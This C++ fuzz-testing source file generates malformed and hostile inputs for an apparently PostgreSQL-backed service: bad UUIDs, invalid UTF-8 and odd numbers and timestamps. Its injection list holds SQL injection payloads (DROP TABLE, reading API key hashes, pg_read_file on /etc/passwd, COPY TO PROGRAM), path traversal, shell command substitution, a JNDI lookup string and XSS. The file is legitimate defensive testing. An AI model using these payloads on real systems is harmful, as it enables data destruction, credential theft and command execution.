#include "tests/fuzz/hostile_values.hpp"

#include <cctype>
#include <cstdio>
#include <vector>

namespace tessera::fuzz {
namespace {

const char* const kHex = "0123456789abcdef";

}  // namespace

std::string randomUuid(Rng& rng) {
    std::string uuid;
    for (int i = 0; i < 32; ++i) {
        if (i == 8 || i == 12 || i == 16 || i == 20) uuid += '-';
        char digit = kHex[rng.below(16)];
        if (i == 12) digit = '4';
        if (i == 16) digit = kHex[8 + rng.below(4)];
        uuid += digit;
    }
    return uuid;
}

std::string badUuid(Rng& rng) {
    std::string uuid = randomUuid(rng);
    switch (rng.below(14)) {
        case 0:
            return uuid.substr(0, rng.below(uuid.size()));
        case 1:
            return uuid + kHex[rng.below(16)];
        case 2:
            uuid[rng.below(uuid.size())] = 'g';
            return uuid;
        case 3:
            return "{" + uuid + "}";
        case 4:
            return "00000000-0000-0000-0000-000000000000";
        case 5:
            return "ffffffff-ffff-ffff-ffff-ffffffffffff";
        case 6: {
            std::string upper = uuid;
            for (char& c : upper) c = static_cast<char>(toupper(static_cast<unsigned char>(c)));
            return upper;
        }
        case 7: {
            std::string plain;
            for (char c : uuid) {
                if (c != '-') plain += c;
            }
            return plain;
        }
        case 8:
            uuid[rng.below(uuid.size())] = '\0';
            return uuid;
        case 9:
            return "urn:uuid:" + uuid;
        case 10:
            return uuid + "' OR '1'='1";
        case 11:
            return std::string(rng.between(37, 5000), 'a');
        case 12:
            return uuid.substr(0, 8) + "-" + uuid.substr(9);
        default:
            return "";
    }
}

std::string injectionString(Rng& rng) {
    static const std::vector<std::string> attempts = {
        "' OR '1'='1",
        "'; DROP TABLE core.teams; --",
        "\"; DROP TABLE core.assets; --",
        "1; SELECT pg_sleep(10)--",
        "' UNION SELECT key_hash FROM core.api_keys --",
        "$1",
        "$$; SELECT 1; $$",
        "E'\\\\x00'",
        "\\",
        "%",
        "_",
        "%%",
        "' || pg_read_file('/etc/passwd') || '",
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "$(reboot)",
        "`id`",
        "{{7*7}}",
        "${jndi:ldap://x/a}",
        "<script>alert(1)</script>",
        "\r\nX-Injected: 1",
        "\nX-Injected: 1",
        "null",
        "undefined",
        "NaN",
        "true",
        "[]",
        "{}",
        "0x41",
        "COPY core.teams TO PROGRAM 'id'",
        "';COMMIT;BEGIN;--",
        "\\u0000",
        "*",
        "?",
        "#",
        "&",
        "=",
        "+",
    };
    return rng.pick(attempts);
}

std::string invalidUtf8(Rng& rng) {
    static const std::vector<std::string> sequences = {
        "\x80",
        "\xBF",
        "\xC0\x80",
        "\xC1\xBF",
        "\xC3",
        "\xC3\x28",
        "\xE0\x80\x80",
        "\xED\xA0\x80",
        "\xED\xBF\xBF",
        "\xF0\x82\x82\xAC",
        "\xF4\x90\x80\x80",
        "\xF8\x88\x80\x80\x80",
        "\xFE",
        "\xFF",
        "\xFF\xFE",
        "\xE2\x82",
        "\xF0\x9F\x98",
        std::string("\0", 1),
        std::string("a\0b", 3),
    };
    std::string text = "x";
    const size_t count = rng.between(1, 4);
    for (size_t i = 0; i < count; ++i) {
        text += rng.pick(sequences);
        if (rng.percent(50)) text += "y";
    }
    return text;
}

std::string awkwardUnicode(Rng& rng) {
    static const std::vector<std::string> samples = {
        "e\xCC\x81\xCC\x81\xCC\x81",  // combining acute accents
        "\xE2\x80\xAE"
        "abc",               // right-to-left override
        "\xF0\x9F\x92\xA9",  // U+1F4A9
        "\xEF\xBB\xBF",      // BOM
        "\xEF\xBF\xBF",      // U+FFFF
        "\xF4\x8F\xBF\xBF",  // U+10FFFF
        "\xE2\x80\x8B",      // zero-width space
        "\xC2\xA0",          // no-break space
        "\xEF\xBC\x87",      // fullwidth apostrophe
        "\xD7\xA9\xD7\x9C\xD7\x95\xD7\x9D",
    };
    std::string text;
    const size_t count = rng.between(1, 3);
    for (size_t i = 0; i < count; ++i) text += rng.pick(samples);
    return text;
}

std::string strangeNumber(Rng& rng) {
    static const std::vector<std::string> numbers = {
        "-1",
        "0",
        "-0",
        "1e999",
        "-1e999",
        "1.5",
        "9223372036854775807",
        "9223372036854775808",
        "-9223372036854775809",
        "18446744073709551616",
        "99999999999999999999999999999999999999",
        "0x10",
        "1e2",
        "+5",
        " 5 ",
        "5.0",
        "5.000000000000000001",
        "NaN",
        "Infinity",
        "2147483648",
        "-2147483649",
        "00000000000000000000001",
        "1_000",
        "",
    };
    return rng.pick(numbers);
}

std::string strangeTimestamp(Rng& rng) {
    static const std::vector<std::string> stamps = {
        "2024-02-30T00:00:00Z",
        "2024-13-01T00:00:00Z",
        "0000-01-01T00:00:00Z",
        "9999-12-31T23:59:60Z",
        "99999-01-01T00:00:00Z",
        "2024-01-01T25:61:61+99:99",
        "2024-01-01",
        "2024-01-01T00:00:00.0000000000000001Z",
        "yesterday",
        "1700000000",
        "-1",
        "2024-01-01T00:00:00+14:01",
        "2024-W01-1",
        "",
    };
    return rng.pick(stamps);
}

std::string strangeEnum(Rng& rng) {
    static const std::vector<std::string> words = {
        "READ",     "Write",   "admin ", " admin", "superuser", "owner",   "backward", "FORWARD",
        "full",     "none",    "NONE",   "strict", "warn",      "ignore",  "pending",  "APPROVED",
        "active",   "deleted", "table",  "view",   "model",     "unknown", "consumes", "upstream",
        "sideways", "",        "0",      "1",      "null",      "*",
    };
    return rng.pick(words);
}

std::string hostileText(Rng& rng) {
    switch (rng.below(9)) {
        case 0:
            return badUuid(rng);
        case 1:
            return injectionString(rng);
        case 2:
            return invalidUtf8(rng);
        case 3:
            return awkwardUnicode(rng);
        case 4:
            return strangeNumber(rng);
        case 5:
            return strangeTimestamp(rng);
        case 6:
            return strangeEnum(rng);
        case 7:
            return std::string(rng.pick(std::vector<size_t>{256, 1001, 10000, 100000}),
                               "aZ%'\"\\<"[rng.below(7)]);
        default:
            return randomUuid(rng);
    }
}

std::string percentEncode(const std::string& text, bool everyByte) {
    std::string out;
    for (unsigned char c : text) {
        const bool safe = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                          (c >= '0' && c <= '9') || c == '-' || c == '_' || c == '.' || c == '~';
        if (safe && !everyByte) {
            out += static_cast<char>(c);
        } else {
            char hex[4];
            std::snprintf(hex, sizeof hex, "%%%02X", c);
            out += hex;
        }
    }
    return out;
}

}  // namespace tessera::fuzz
